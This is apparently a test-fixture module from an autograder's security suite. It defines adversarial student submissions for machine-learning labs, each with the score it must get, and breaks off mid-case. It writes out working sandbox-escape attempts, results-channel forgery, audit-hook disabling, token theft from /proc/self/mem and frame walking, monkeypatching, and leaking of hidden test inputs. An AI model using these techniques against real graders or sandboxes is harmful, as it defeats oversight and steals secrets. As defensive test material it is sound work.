"""The adversarial corpus on the real labs (01, 05, 06, 07), each case with the exact score it must get.

Every attack class of issue 7, and variants, as student submissions built from the lab's
release: solution answers except where a case overrides them. The rule for each expected
score: an attack scores no more than the honest work it contains. Stub answers plus an
oracle score 0 for those parts; solution answers plus a harmless attack keep full marks for
every part it does not touch; a part answered with library code the lab asks students to
write (a raw or v1 TensorFlow kernel, Keras's own source run again, the lab's own reference
helpers) scores 0, however the code was reached.

``CASES[lab_id][name] = (answers, edit, expected, named)``:

* ``answers``: grade_id -> replacement for that answer cell: a string, ``STUB`` (the release's
  unfinished cell) or a function ``(solution_source, stub_source) -> source``;
* ``edit``: None or a function that tampers with the notebook (nbformat object) further;
* ``expected``: points per part grade_id, or a rule: ``"full"``, ``"nothing"`` or
  ``"full except a, b"`` (those parts 0, every other part its full points);
* ``named``: (field, text) pairs: ``text`` must occur in that field of the result, so the
  attack is named for the student or the instructor (``"a | b"``: either will do). Fields:
  ``problems`` and ``review`` (of any part), ``notes``, ``incidents``, ``cell_errors`` and
  ``checks`` (the messages of failed checks: an attack refused before it reached anything, a
  disabled built-in raising RuntimeError, is named there). What happens while a hidden check
  runs is named only by the fixed texts of ``HIDDEN_PHASE_FINDINGS`` (nothing the student's
  code shaped leaves then), so a name for it accepts them (``HIDDEN_FORBIDDEN``, ``HIDDEN_REVIEW``).
  A third element, a set of Keras backends, limits a name to them: a TensorFlow kernel is named only
  where the attack could reach it (on JAX and torch the same attack fails earlier, and scores the same).

Honest work that depends on an attack loses with it: a part that calls a helper an attack cell
was to define, which now fails before defining it (NameError), or a labkit helper, which labkit
now refuses; and a library file run again or copied zeroes every part whose forbidden built-ins
that file defines (every part that forbids something when the file is unknown, as for a
made-up "library" file name), since the copy can serve any of them.

``LEAK_TARGETS[lab_id][name]`` lists, for the cases that try to carry hidden-check inputs out,
which hidden checks they go after and what of their arguments the attack sees; the tests
encode those inputs with ``encode_inputs`` (the attack's own encoding) and look for them in
everything a student can read.
"""

import nbformat

from autograder.sandbox import HIDDEN_PHASE_FINDINGS

STUB = "release stub"

# The only names a finding made while a hidden check ran can carry (see ``named`` above).
HIDDEN_FORBIDDEN = HIDDEN_PHASE_FINDINGS["forbidden"]
TENSORFLOW_ONLY = frozenset({"tensorflow"})  # a name only the TensorFlow backend can produce (see ``named``)
HIDDEN_REVIEW = HIDDEN_PHASE_FINDINGS["review"]

# ---------------------------------------------------------------------------
# Shared pieces of attack code.

# How the exfiltration attacks write down what they saw: numbers only (dict values by sorted
# key, nested lists and arrays flattened), 6 significant digits, joined by "~". The tests use
# the same function on the hidden checks' arguments.
ENCODE_SOURCE = '''
def encode_inputs(*values):
    """Inputs as one searchable word, e.g. LEAK~0.5~-0.25: numbers only, in order."""
    numbers = []

    def walk(value):
        if isinstance(value, dict):
            for key in sorted(value):
                walk(value[key])
        elif isinstance(value, (list, tuple)):
            for item in value:
                walk(item)
        elif hasattr(value, "shape") and hasattr(value, "ravel"):
            for item in value.ravel().tolist():
                walk(item)
        elif isinstance(value, (int, float)) and not isinstance(value, bool):
            numbers.append(format(float(value), "g"))

    walk(list(values))
    return "LEAK~" + "~".join(numbers)
'''
_namespace = {}
exec(ENCODE_SOURCE, _namespace)
encode_inputs = _namespace["encode_inputs"]

# Five ways to carry one string out of a probe: printed; as the first line of code built from
# text; as a "library" file name given to compile(); and raised in an exception whose class is
# named like one of the grader's own messages ("stopped: ...") or claims to be a built-in.
LEAK_SOURCE = ENCODE_SOURCE + '''
import sys as _leak_sys

_leaked = []


def leak(marker):
    """Put `marker` everywhere a student might read it back, then fail the check with it."""
    print(marker)
    exec("# " + marker + "\\npass")
    try:
        compile("pass", _leak_sys.prefix + "/" + marker + ".py", "exec")
    except Exception:
        pass
    _leaked.append(marker)
    if len(_leaked) % 2:
        raise type("stopped: " + marker, (ValueError,), {})(marker)
    raise type(marker, (ValueError,), {"__module__": "builtins"})(marker)
'''

# Probe tampering with an oracle: labkit.checks.run_probe replaced through vars(module) by a
# function that asks a fresh interpreter (no disabled built-ins, no hooks) to run the probe on
# the Keras built-in; asked once in the cell too, so the refusal is on record. `REFERENCES` is
# defined per lab, just before this code.
ORACLE_SOURCE = '''
import json
import subprocess
import sys

import labkit.checks as checks

_ORACLE = (
    "import json, sys\\n"
    "import labkit.checks as c\\n"
    "probe, reference, arguments = json.loads(sys.argv[1])\\n"
    "print(json.dumps(c.encode_outputs(c.run_probe(probe, c.resolve_symbol(reference, {}), arguments))))\\n"
)
_real_run_probe = vars(checks)["run_probe"]


def oracle_run_probe(probe_path, target_object, arguments):
    """The probe's outputs for the Keras built-in, computed in a fresh python process."""
    reference = REFERENCES.get(getattr(target_object, "__name__", ""))
    if reference is None:
        return _real_run_probe(probe_path, target_object, arguments)
    completed = subprocess.run([sys.executable, "-c", _ORACLE, json.dumps([probe_path, reference, arguments])],
                               capture_output=True, text=True, check=True)
    return checks.decode_outputs(json.loads(completed.stdout))


vars(checks)["run_probe"] = oracle_run_probe
try:
    oracle_run_probe(*ORACLE_PROBE)
    raise SystemExit("the oracle process ran")
except PermissionError as refusal:
    print("oracle refused:", refusal)
'''

# Monkeypatching numpy, builtins, keras and labkit by every route: vars(), __dict__, setattr,
# a function's __code__ and sys.modules. `PATCHED_PROBES` (a labkit module name) is per lab.
MONKEYPATCH_SOURCE = '''
import builtins
import types

import keras
import numpy

numpy.__dict__["allclose"] = lambda *args, **kwargs: True
setattr(numpy, "isclose", lambda *args, **kwargs: numpy.array(True))
setattr(builtins, "isinstance", lambda *args: True)
vars(keras.ops)["mean"] = lambda *args, **kwargs: 0.0
vars(checks)["compare_outputs"] = lambda *args, **kwargs: checks.Outcome(True, "ok")
try:
    checks.resolve_symbol.__code__ = (lambda name, namespace: None).__code__
except PermissionError as refusal:
    print("code swap refused:", refusal)
_fake = types.ModuleType(PATCHED_PROBES)
_fake.__getattr__ = lambda name: (lambda *args, **kwargs: {})
vars(sys)["modules"][PATCHED_PROBES] = _fake
'''

# Every way out of the sandbox, each of which must be refused: processes by every route,
# events written to the grader's results channel, threads, signal handlers and timers, and
# 1.5 GiB written to each in-memory folder. If anything gets through, the cell stops before it
# defines its answer, so the part is lost and the case fails. Prepended to an answer cell.
ESCAPE_SOURCE = '''
import _posixsubprocess
import _thread
import ctypes
import faulthandler
import glob
import json
import multiprocessing
import os
import pty
import signal
import stat
import subprocess
import sys
import threading

_escaped = []


def _attempt(name, action):
    try:
        action()
    except (PermissionError, OSError):
        return  # refused, as it must be
    _escaped.append(name)


def _fork():
    if os.fork() == 0:
        os._exit(0)


def _fork_exec():
    read_end, write_end = os.pipe()
    _posixsubprocess.fork_exec([b"/bin/true"], [b"/bin/true"], True, (write_end,), None, None, -1, -1, -1, -1,
                               -1, -1, read_end, write_end, True, False, -1, None, None, None, -1, None, True)


_attempt("subprocess", lambda: subprocess.run([sys.executable, "-c", "pass"]))
_attempt("os.system", lambda: os.system("true"))
_attempt("os.posix_spawn", lambda: os.posix_spawn("/bin/true", ["true"], {}))
_attempt("os.execv", lambda: os.execv("/bin/true", ["true"]))
_attempt("os.fork", _fork)
_attempt("pty.fork", pty.fork)
_attempt("multiprocessing", lambda: multiprocessing.Process(target=print).start())
_attempt("ctypes libc", lambda: ctypes.CDLL(None).system(b"true"))
_attempt("_posixsubprocess.fork_exec", _fork_exec)

_forged = [{"event": "probe", "key": "x", "status": "ok", "outputs": {}}, {"event": "done"},
           {"event": "cell", "index": 0, "status": "error", "error": "forged"}, [1, 2]]
for _descriptor in range(3, 256):
    try:
        if stat.S_ISFIFO(os.fstat(_descriptor).st_mode):
            os.write(_descriptor, ("\\n".join(json.dumps(item) for item in _forged) + "\\nnot json\\n").encode())
    except OSError:
        pass

_attempt("threading.Thread", lambda: threading.Thread(target=print).start())
_attempt("_thread.start_new_thread", lambda: _thread.start_new_thread(print, ()))
_attempt("threading.Timer", lambda: threading.Timer(0.05, print).start())
_attempt("signal.signal", lambda: signal.signal(signal.SIGALRM, print))
_attempt("signal.setitimer", lambda: signal.setitimer(signal.ITIMER_REAL, 0.05))
_attempt("signal.alarm", lambda: signal.alarm(1))
try:
    faulthandler.dump_traceback_later(3600)  # a watchdog thread started from C
    faulthandler.cancel_dump_traceback_later()
except (PermissionError, OSError):
    pass

_chunk = b"\\0" * (32 << 20)  # files of 32 MB: under the 64 MB file-size limit, so only the folders' sizes stop it
for _folder in ("/tmp", "/scratch", "/dev/shm"):
    _written = 0
    try:
        while _written < 1536 << 20:
            with open(f"{_folder}/fill-{_written >> 20}", "wb") as _file:
                _file.write(_chunk)
            _written += len(_chunk)
    except OSError:
        pass
    for _path in glob.glob(f"{_folder}/fill-*"):
        os.remove(_path)
    if _written >= 1536 << 20:
        _escaped.append(f"{_written >> 20} MB written to {_folder}")
if _escaped:
    raise SystemExit(f"got out of the sandbox: {_escaped}")
'''

# Switching the grader's own hooks off: the audit hook's Recorder is reachable from the closure
# of the thread guard (and the kernel record from the wrapped TensorFlow entry points); their
# state is plain instance attributes. With the hook off, frames are open, so the grader's
# Session (the results channel and its secret token) and the probe request in progress are too.
# (Since the hook became a closure nothing refers to, the search finds no recorder: the cell
# stops with StopIteration before it defines leak_request, and the answers that call it fail.)
HOOKS_OFF_SOURCE = '''
import _thread
import sys


def _captured(function):
    return [cell.cell_contents for cell in (getattr(function, "__closure__", None) or ())]


_recorder = next(item for item in _captured(_thread.start_new_thread) if hasattr(item, "active"))
_recorder.active = False
try:
    from tensorflow.python import pywrap_tfe
    from tensorflow.python.framework import ops as _tf_ops

    for _entry in (pywrap_tfe.TFE_Py_FastPathExecute, pywrap_tfe.TFE_Py_Execute, _tf_ops.Graph._create_op_internal):
        for _item in _captured(_entry):
            if hasattr(_item, "forbidden_names"):
                _item.forbidden_names = frozenset()
except ImportError:
    pass


def grader_frames():
    """(the grader's Session, the probe request in progress or None), found by walking the frames."""
    frame, session, request = sys._getframe(1), None, None
    while frame is not None:
        candidate = frame.f_locals.get("self")
        if session is None and hasattr(candidate, "token") and hasattr(candidate, "send"):
            session = candidate
        if frame.f_code.co_name == "run_probes":
            request = frame.f_locals.get("request")
        frame = frame.f_back
    return session, request


_stolen = []


def leak_request():
    """Send the probe request in progress to the feedback, as a forged (but well-signed) cell error."""
    session, request = grader_frames()
    if session is None or request is None:
        return
    marker = encode_inputs(request["arguments"])
    if marker not in _stolen:
        _stolen.append(marker)
        session.send(event="cell", index=0, status="error", error=" ".join(_stolen))
'''


# The source lines of one top-level class or function of a library file, decorators left out;
# `disguised` adds a comment to every line, so no line of the copy equals a line of the file.
DEFINITION_SOURCE = '''
import ast as _ast


def library_definition(path, name, disguised=False):
    with open(path) as handle:
        text = handle.read()
    node = next(item for item in _ast.parse(text).body
                if isinstance(item, (_ast.ClassDef, _ast.FunctionDef)) and item.name == name)
    lines = text.splitlines()[node.lineno - 1:node.end_lineno]
    return "\\n".join(line + "  # mine" if disguised and line.strip() else line for line in lines)
'''


def _prepend(code):
    return lambda solution, stub: code.strip() + "\n\n" + solution


def _renamed(name, wrapper):
    """The solution with `def name(` renamed to `_honest_name(`, followed by the wrapper code."""
    def build(solution, stub):
        return solution.replace(f"def {name}(", f"def _honest_{name}(", 1) + "\n\n" + wrapper.strip() + "\n"
    return build


def _extra_cells(*sources, at_top=False):
    """A notebook edit adding code cells the student wrote (at the end, or before everything)."""
    def edit(notebook):
        cells = [nbformat.v4.new_code_cell(source.strip()) for source in sources]
        notebook.cells = cells + notebook.cells if at_top else notebook.cells + cells
    return edit


# ---------------------------------------------------------------------------
# Lab 01: gradient descent, gradient checks, softmax cross-entropy, minibatch SGD.

LAB01 = "01_optimization_basics"

LAB01_ORACLE = '''
REFERENCES = {"softmax_cross_entropy": "labkit.gradient_probes.keras_softmax_cross_entropy"}
ORACLE_PROBE = ("labkit.gradient_probes.softmax_cross_entropy_outputs", softmax_cross_entropy,
                {"seed": 0, "num_examples": 5, "num_features": 4, "num_classes": 3})
PATCHED_PROBES = "labkit.gradient_probes"
''' + ORACLE_SOURCE + MONKEYPATCH_SOURCE

LAB01_RAW_SOFTMAX = '''
import keras
import numpy as np
import tensorflow as tf


def softmax_cross_entropy(weights, bias, images, labels):
    """TensorFlow's fused kernel computes the losses and d loss / d logits; the v1 and keras.ops routes agree."""
    logits = images @ weights + bias
    losses, logit_gradient = tf.raw_ops.SparseSoftmaxCrossEntropyWithLogits(features=logits, labels=labels)
    v1_losses = tf.compat.v1.nn.sparse_softmax_cross_entropy_with_logits(labels=labels, logits=logits)
    ops_losses = keras.ops.sparse_categorical_crossentropy(labels, logits, from_logits=True)
    assert np.allclose(losses.numpy(), v1_losses.numpy()) and np.allclose(losses.numpy(), ops_losses.numpy())
    logit_gradient = logit_gradient.numpy() / images.shape[0]
    return float(np.mean(losses.numpy())), images.T @ logit_gradient, logit_gradient.sum(axis=0)
'''

LAB01_REFERENCE_SOFTMAX = '''
import labkit.gradient_probes


def softmax_cross_entropy(weights, bias, images, labels):
    """The lab's own float64 reference (the one the SGD probe hands out) does the work."""
    return labkit.gradient_probes.softmax_cross_entropy_reference(weights, bias, images, labels)
'''

LAB01_REFERENCE_RELATIVE_ERROR = '''
import labkit.gradient_probes


def relative_error(a, b, tiny=1e-12):
    """The lab's own pure-Python reference of the formula."""
    return labkit.gradient_probes.relative_error_reference(a, b, tiny)
'''

# The setup cell imported importlib.util and sys: globals() reaches both without naming them.
LAB01_RUN_AGAIN_SOFTMAX = '''
import inspect
import runpy

import keras
import numpy as np

_loader = globals()["import" + "lib"]
_modules = globals()["s" + "ys"].modules
_fresh = _loader.reload(_modules["keras.src.losses.losses"])  # the module's code again: enabled built-ins
_path = inspect.getfile(_fresh)
_again = runpy.run_path(_path)  # and once more through runpy
_copied = {}
with open(_path) as _source:
    exec(_source.read(), _copied)  # and from its source text


def softmax_cross_entropy(weights, bias, images, labels):
    """Keras's loss, from a reloaded copy of its module, for the value; the gradient by hand."""
    num_examples = images.shape[0]
    logits = images @ weights + bias
    loss = float(np.mean(keras.ops.convert_to_numpy(
        _fresh.sparse_categorical_crossentropy(labels, logits, from_logits=True))))
    shifted = logits - logits.max(axis=1, keepdims=True)
    probabilities = np.exp(shifted) / np.exp(shifted).sum(axis=1, keepdims=True)
    probabilities[np.arange(num_examples), labels] -= 1.0
    probabilities /= num_examples
    return loss, images.T @ probabilities, probabilities.sum(axis=0)
'''

LAB01_LEAK_GRADIENT = LEAK_SOURCE + '''
_VISIBLE_POINTS = {encode_inputs([0.3, -1.2, 2.0]), encode_inputs([0.1, 0.2])}


def numerical_gradient(function, point, step=1e-5):
    """Correct, except that it carries any point the visible checks do not use out of the sandbox."""
    marker = encode_inputs(point)
    if marker not in _VISIBLE_POINTS:
        leak(marker)
    return _honest_numerical_gradient(function, point, step)
'''

LAB01_LEAK_SOFTMAX = ENCODE_SOURCE + '''
import sys as _sys

_VISIBLE_SHAPES = {encode_inputs(5, 4, 4, 3), encode_inputs(6, 3, 3, 4)}


def softmax_cross_entropy(weights, bias, images, labels):
    """Correct; shapes the visible checks do not use are written into a "library" file name."""
    marker = encode_inputs(images.shape, weights.shape)
    if marker not in _VISIBLE_SHAPES:
        compile("pass", _sys.prefix + "/" + marker + ".py", "exec")
    return _honest_softmax_cross_entropy(weights, bias, images, labels)
'''

LAB01_HOOKS_OFF_SOFTMAX = '''
import os

import keras
import numpy as np

_copied = {"__name__": "copied_losses"}
with open(os.path.join(os.path.dirname(keras.__file__), "src", "losses", "losses.py")) as _source:
    exec(compile(_source.read(), "copied_losses.py", "exec"), _copied)


def softmax_cross_entropy(weights, bias, images, labels):
    """Keras's loss from its copied source for the value; the gradient by hand."""
    num_examples = images.shape[0]
    logits = images @ weights + bias
    loss = float(np.mean(keras.ops.convert_to_numpy(
        _copied["sparse_categorical_crossentropy"](labels, logits, from_logits=True))))
    shifted = logits - logits.max(axis=1, keepdims=True)
    probabilities = np.exp(shifted) / np.exp(shifted).sum(axis=1, keepdims=True)
    probabilities[np.arange(num_examples), labels] -= 1.0
    probabilities /= num_examples
    return loss, images.T @ probabilities, probabilities.sum(axis=0)
'''

LAB01_PROC_MEM_GRADIENT = '''
def numerical_gradient(function, point, step=1e-5):
    """Correct; every point it is given goes to the feedback, signed with the stolen token."""
    send_to_feedback(encode_inputs(point))
    return _honest_numerical_gradient(function, point, step)
'''

LAB01_HOOKS_OFF_RELATIVE_ERROR = '''
def relative_error(a, b, tiny=1e-12):
    """Correct, and every probe request it is called from goes to the feedback."""
    leak_request()
    return _honest_relative_error(a, b, tiny)
'''

# The audit hook tests "is the path a descriptor?" with the builtin isinstance, which student code
# can replace: with it answering yes for a moment, /proc/self/mem opens unrecorded, and the
# channel's secret token can be read out of the process's memory; then any student code can sign
# events (here, a "cell error" that carries what it was called with into the feedback).
PROC_MEM_TOKEN_SOURCE = ENCODE_SOURCE + '''
import builtins
import json
import os
import re
import stat

_real_isinstance = builtins.isinstance
builtins.isinstance = lambda *arguments: True
try:
    _memory = open("/proc/self/mem", "rb")
finally:
    builtins.isinstance = _real_isinstance
_token = None
with open("/proc/self/maps") as _maps:
    _regions = [line.split() for line in _maps]
for _fields in _regions:
    _start, _end = (int(value, 16) for value in _fields[0].split("-"))
    if "r" not in _fields[1] or _end - _start > 1 << 30 or (len(_fields) > 5 and _fields[5].startswith("/")):
        continue
    for _chunk in range(_start, _end, 16 << 20):  # 16 MB at a time, overlapping by the pattern's length
        try:
            _memory.seek(_chunk)
            _found = re.search(rb\'"token": "([0-9a-f]{32})"\', _memory.read(min(_end - _chunk, (16 << 20) + 64)))
        except (OSError, OverflowError, ValueError):
            break
        if _found:
            _token = _found.group(1).decode()
            break
    if _token:
        break


def _is_fifo(descriptor):
    try:
        return stat.S_ISFIFO(os.fstat(descriptor).st_mode)
    except OSError:
        return False


_channels = [descriptor for descriptor in range(3, 256) if _is_fifo(descriptor)]
_sent = []


def send_to_feedback(marker):
    """A well-signed "cell error" event with everything sent so far."""
    if _token is None or marker in _sent:
        return
    _sent.append(marker)
    line = json.dumps({"event": "cell", "index": 0, "status": "error", "error": " ".join(_sent), "token": _token})
    for descriptor in _channels:
        try:
            os.write(descriptor, (line + "\\n").encode())
        except OSError:
            pass
'''

CASES = {}
LEAK_TARGETS = {}
ESCAPE_NAMED = [("review", "tried subprocess.Popen"), ("review", "tried os.system"), ("review", "tried os.posix_spawn"),
                ("review", "tried os.exec"), ("review", "tried os.fork"), ("review", "tried ctypes.dlopen"),
                ("review", "a new thread"), ("review", "signal.signal"), ("review", "signal.setitimer"),
                ("review", "signal.alarm"), ("review", "results channel were not written by the grader"),
                ("review", "fork_exec"), ("review", "faulthandler")]

CASES[LAB01] = {
    # (1, 9, and 5-8) Stub answers, plus an oracle in place of labkit.checks.run_probe, patches of numpy,
    # builtins, keras.ops and labkit by every route, and every way out of the sandbox (processes, the
    # results channel, threads and signals, 1.5 GiB into /tmp, /scratch and /dev/shm) in front of an
    # honest answer: the stubs stay 0, the honest parts keep full marks.
    "oracle_monkeypatches_and_escapes_with_stubs": (
        {"gradient_descent": STUB, "softmax_cross_entropy": STUB, "numerical_gradient": _prepend(ESCAPE_SOURCE)},
        _extra_cells(LAB01_ORACLE),
        "full except test_gradient_descent, test_softmax_cross_entropy",
        [("review", "labkit.checks.run_probe"), ("review", "numpy.allclose"), ("review", "builtins.isinstance"),
         ("review", "replaces __code__ of the library function"),
         ("review", "sys.modules['labkit.gradient_probes']"), ("notes", "monkeypatches")] + ESCAPE_NAMED,
    ),
    # (3) The loss and its gradient from TensorFlow's fused kernel, by tf.raw_ops, tf.compat.v1 and keras.ops.
    "raw_v1_and_ops_softmax_kernel": (
        {"softmax_cross_entropy": LAB01_RAW_SOFTMAX},
        None,
        "full except test_softmax_cross_entropy",
        [("problems", "SparseSoftmaxCrossEntropyWithLogits")],
    ),
    # (own) The lab's own reference helpers as the answers.
    "labkit_reference_helpers_as_answers": (
        {"softmax_cross_entropy": LAB01_REFERENCE_SOFTMAX, "relative_error": LAB01_REFERENCE_RELATIVE_ERROR},
        None,
        "full except test_softmax_cross_entropy, test_relative_error",
        # labkit refuses the calls: named in the review (and the checks' messages).
        [("review", "softmax_cross_entropy_reference"), ("review", "relative_error_reference")],
    ),
    # (2) Keras's loss module run again: importlib.reload reached through globals(), runpy, exec of its source.
    "keras_loss_module_run_again": (
        {"softmax_cross_entropy": LAB01_RUN_AGAIN_SOFTMAX},
        None,
        "full except test_softmax_cross_entropy",
        [("problems", "runs the library module"), ("problems", "copied from the library source file"),
         ("review", "globals() reaches a namespace by name")],
    ),
    # (4) Correct answers that carry hidden inputs out through errors, output and file names.
    "hidden_inputs_through_errors_and_names": (
        {"numerical_gradient": _renamed("numerical_gradient", LAB01_LEAK_GRADIENT),
         "softmax_cross_entropy": _renamed("softmax_cross_entropy", LAB01_LEAK_SOFTMAX)},
        None,
        "full except test_numerical_gradient, test_softmax_cross_entropy",
        [("problems", "compiles code under the library file name | " + HIDDEN_FORBIDDEN),
         ("review", "builds and runs code from text | " + HIDDEN_REVIEW)],
    ),
    # (own, 2, 4, 7) The grader's hooks switched off: copied Keras source goes unseen, and the stolen
    # channel token sends every probe request of relative_error into the feedback. The hooks-off
    # cell now fails (no recorder to find), so relative_error's call of leak_request fails too.
    "grader_hooks_switched_off": (
        {"softmax_cross_entropy": LAB01_HOOKS_OFF_SOFTMAX,
         "relative_error": _renamed("relative_error", LAB01_HOOKS_OFF_RELATIVE_ERROR)},
        _extra_cells(ENCODE_SOURCE + HOOKS_OFF_SOURCE, at_top=True),
        "full except test_softmax_cross_entropy, test_relative_error",
        [("review", "cell_contents"), ("problems", "copied from the library source file")],
    ),
    # (own, 4, 7) The audit hook blinded for one open() by a patched builtin: /proc/self/mem gives the
    # channel token, and correct answers sign events that carry their inputs into the feedback.
    # The hook's isinstance is bound at install now: the open is refused, the cell stops before
    # it defines send_to_feedback, and numerical_gradient, which calls it, fails.
    "audit_hook_blinded_by_a_patched_builtin": (
        {"numerical_gradient": _renamed("numerical_gradient", LAB01_PROC_MEM_GRADIENT)},
        _extra_cells(PROC_MEM_TOKEN_SOURCE),
        "full except test_numerical_gradient",
        [("review", "opened /proc/self/mem")],
    ),
}

LEAK_TARGETS[LAB01] = {
    # case -> [(target symbol, function of a hidden check's arguments -> what the attack encodes)]
    "hidden_inputs_through_errors_and_names": [
        ("numerical_gradient", lambda arguments: encode_inputs(arguments["point"])),
        ("softmax_cross_entropy", lambda arguments: encode_inputs(
            (arguments["num_examples"], arguments["num_features"]),
            (arguments["num_features"], arguments["num_classes"]))),
    ],
    "grader_hooks_switched_off": [("relative_error", encode_inputs)],
    "audit_hook_blinded_by_a_patched_builtin": [
        ("numerical_gradient", lambda arguments: encode_inputs(arguments["point"])),
    ],
}

# ---------------------------------------------------------------------------
# Lab 05: optimizers.

LAB05 = "05_optimizers"

LAB05_ORACLE = '''
REFERENCES = {"Adam": "keras.optimizers.Adam", "AdamW": "keras.optimizers.AdamW"}
ORACLE_PROBE = ("labkit.optimizer_probes.configuration", Adam, {})
PATCHED_PROBES = "labkit.optimizer_probes"
''' + ORACLE_SOURCE + MONKEYPATCH_SOURCE + '''
keras.optimizers.__dict__["Adam"] = Adam
setattr(keras.optimizers, "AdamW", AdamW)
'''

LAB05_RAW_SGD_UPDATE = '''
    @tf.autograph.experimental.do_not_convert  # autograph would rewrite it
    def update_step(self, gradient, variable, learning_rate):
        """TensorFlow's training kernels do the update (Keras's momentum and Nesterov forms)."""
        import tensorflow as tf

        learning_rate = ops.cast(learning_rate, variable.dtype)
        gradient = ops.cast(gradient, variable.dtype)
        if self.momentum == 0:
            tf.raw_ops.ResourceApplyGradientDescent(var=variable.handle, alpha=learning_rate, delta=gradient)
            return
        velocity = self.velocities[self._get_variable_index(variable)]
        tf.raw_ops.ResourceApplyKerasMomentum(var=variable.handle, accum=velocity.handle,
                                              lr=learning_rate, grad=gradient,
                                              momentum=ops.cast(self.momentum, variable.dtype),
                                              use_nesterov=self.nesterov)
'''

LAB05_RAW_ADAM_UPDATE = '''
    @tf.autograph.experimental.do_not_convert  # autograph would rewrite it
    def update_step(self, gradient, variable, learning_rate):
        """TensorFlow's Adam kernels (with and without AMSGrad) do the update."""
        import tensorflow as tf

        dtype = variable.dtype
        learning_rate = ops.cast(learning_rate, dtype)
        gradient = ops.cast(gradient, dtype)
        index = self._get_variable_index(variable)
        step = ops.cast(self.iterations + 1, dtype)
        beta_1 = ops.cast(self.beta_1, dtype)
        beta_2 = ops.cast(self.beta_2, dtype)
        common = dict(var=variable.handle, m=self.first_moments[index].handle,
                      v=self.second_moments[index].handle, beta1_power=ops.power(beta_1, step),
                      beta2_power=ops.power(beta_2, step), lr=learning_rate, beta1=beta_1, beta2=beta_2,
                      epsilon=ops.cast(self.epsilon, dtype), grad=gradient)
        if self.amsgrad:
            tf.raw_ops.ResourceApplyAdamWithAmsgrad(vhat=self.max_second_moments[index].handle, **common)
        else:
            tf.raw_ops.ResourceApplyAdam(**common)
'''


def _with_update_step(update_step):
    """The solution class with its update_step replaced by another one (same indentation)."""
    def build(solution, stub):
        start = solution.index("    def update_step(")
        end = solution.index("    def get_config(")
        return "import tensorflow as tf\n\n" + solution[:start] + update_step.strip("\n") + "\n\n" + solution[end:]
    return build


LAB05_EXEC_ADAM = '''
import inspect

_copied = {"__name__": "copied_adam"}
with open(inspect.getfile(keras.optimizers.Optimizer).replace("optimizer.py", "adam.py")) as _source:
    exec(compile(_source.read(), "copied_adam.py", "exec"), _copied)


class Adam(_copied["Adam"]):
    """Adam, as Keras ships it."""
'''

LAB05_RELOAD_RMSPROP = '''
_loader = globals()["import" + "lib"]
_fresh = _loader.reload(globals()["s" + "ys"].modules["keras.src.optimizers.rmsprop"])


class RMSprop(_fresh.RMSprop):
    """RMSprop from a reloaded copy of Keras's module."""
'''

LAB05_RUNPY_ADAGRAD = '''
import inspect
import runpy


class Adagrad(runpy.run_path(inspect.getfile(keras.optimizers.Optimizer).replace("optimizer.py", "adagrad.py"))[
        "Adagrad"]):
    """Adagrad from Keras's module, run again by runpy."""
'''

# The same library code reached in ways that leave no trace in the audit record.
LAB05_PYC_SGD = '''
import glob
import marshal
import os

_cache = glob.glob(os.path.join(os.path.dirname(keras.__file__), "src", "optimizers", "__pycache__",
                                "sgd.cpython-*.pyc"))[0]
with open(_cache, "rb") as _compiled:  # bytecode, not source: no read is recorded
    _code = marshal.loads(_compiled.read()[16:]).replace(co_filename="<my sgd>")
_namespace = {"__name__": "my_sgd"}
exec(_code, _namespace)  # Keras's module code under another file name


class SGD(_namespace["SGD"]):
    """SGD, as Keras ships it, from its bytecode cache."""
'''

LAB05_BASE_CLIPPING = '''
import types

_base = next(cls for cls in keras.optimizers.Optimizer.__mro__ if cls.__name__ == "BaseOptimizer")


def clip_by_value(gradients, clip_value):
    return [ops.clip(gradient, -clip_value, clip_value) for gradient in gradients]


def clip_by_norm(gradients, clip_norm):
    """Keras's own clipnorm (BaseOptimizer._clip_by_norm), which no forbidden list names."""
    settings = types.SimpleNamespace(clipnorm=clip_norm)
    return [_base._clip_by_norm(settings, gradient) for gradient in gradients]


def clip_by_global_norm(gradients, clip_norm):
    """Keras's own global_norm helper, and the scale."""
    norm = _base._clip_by_norm.__globals__["global_norm"](gradients)
    return [gradient * (clip_norm / ops.maximum(norm, clip_norm)) for gradient in gradients]
'''

LAB05_HOOKS_OFF_RMSPROP = '''
import inspect

_copied = {"__name__": "copied_rmsprop"}
with open(inspect.getfile(keras.optimizers.Optimizer).replace("optimizer.py", "rmsprop.py")) as _source:
    exec(compile(_source.read(), "copied_rmsprop.py", "exec"), _copied)


class RMSprop(_copied["RMSprop"]):
    """RMSprop, as Keras ships it, from its copied source (nobody is watching)."""
'''

def _lab05_leaking_adagrad(solution, stub):
    """The solution's Adagrad (same constructor), which carries settings no visible check uses out."""
    header = LEAK_SOURCE + '''
_VISIBLE_SETTINGS = {encode_inputs(setting) for setting in [
    (0.1, 0.1, 1e-7), (0.1, 0.0, 1e-7), (0.2, 0.3, 1e-6), (0.001, 0.1, 1e-7), (0.05, 0.5, 0.001)]}
'''
    honest = solution.replace("class Adagrad(", "class _HonestAdagrad(", 1).replace(
        "        self.initial_accumulator_value = initial_accumulator_value\n",
        "        self.initial_accumulator_value = initial_accumulator_value\n"
        "        self.learning_rate_argument = learning_rate\n", 1)
    wrapper = '''

class Adagrad(_HonestAdagrad):
    """The solution's Adagrad; building it or asking its config leaks its settings."""

    def _leak_settings(self):
        seen = (self.learning_rate_argument, self.initial_accumulator_value, self.epsilon)
        if all(isinstance(value, (int, float)) for value in seen):
            marker = encode_inputs(seen)
            if marker not in _VISIBLE_SETTINGS:
                leak(marker)

    def build(self, variables):
        self._leak_settings()
        super().build(variables)

    def get_config(self):
        self._leak_settings()
        return super().get_config()
'''
    return header + "\n" + honest + wrapper


CASES[LAB05] = {
    # (1, 9, 5-8) Stubs plus the oracle, the monkeypatches and the escape attempts (see lab 01).
    "oracle_monkeypatches_and_escapes_with_stubs": (
        {"adam": STUB, "adamw": STUB, "sgd": _prepend(ESCAPE_SOURCE)},
        _extra_cells(LAB05_ORACLE),
        "full except test_adam, test_adam_amsgrad, test_adamw",
        [("review", "labkit.checks.run_probe"), ("review", "keras.optimizers.Adam"), ("review", "numpy.allclose"),
         ("review", "sys.modules['labkit.optimizer_probes']"), ("notes", "monkeypatches")] + ESCAPE_NAMED,
    ),
    # (3, 4) Updates done by TensorFlow's training kernels; Adagrad's constructor settings carried out.
    # The leak compiles code under a made-up "library" file name while a hidden check runs: no
    # file is known, so every part that forbids something (all of lab 05's) scores 0.
    "raw_kernels_and_hidden_inputs": (
        {"sgd": _with_update_step(LAB05_RAW_SGD_UPDATE), "adam": _with_update_step(LAB05_RAW_ADAM_UPDATE),
